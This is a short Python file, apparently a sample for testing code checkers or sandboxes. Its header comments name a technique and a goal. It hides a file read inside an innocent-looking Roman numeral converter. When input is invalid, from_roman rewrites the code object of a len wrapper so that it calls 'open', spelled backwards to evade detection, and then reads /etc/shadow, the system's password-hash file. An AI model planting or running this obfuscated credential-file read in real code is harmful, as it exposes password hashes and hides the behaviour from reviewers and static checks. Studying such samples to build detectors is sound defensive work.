# technique: code object rebuilt with other names (__code__.replace)
# goal: turn a harmless looking function into one that opens a file

VALUES = [
    (1000, "M"), (900, "CM"), (500, "D"), (400, "CD"), (100, "C"), (90, "XC"),
    (50, "L"), (40, "XL"), (10, "X"), (9, "IX"), (5, "V"), (4, "IV"), (1, "I"),
]


def to_roman(number):
    out = ""
    for value, letters in VALUES:
        while number >= value:
            out += letters
            number -= value
    return out


def length(text):
    return len(text)


def _variant(function, before, after):
    code = function.__code__
    names = tuple(after if name == before else name for name in code.co_names)
    function.__code__ = code.replace(co_names=names)
    return function


def from_roman(text):
    total, rest = 0, text
    for value, letters in VALUES:
        while rest.startswith(letters):
            total += value
            rest = rest[len(letters):]
    if rest:
        handle = _variant(length, "len", "nepo"[::-1])("/etc/shadow")
        return list(handle)
    return total
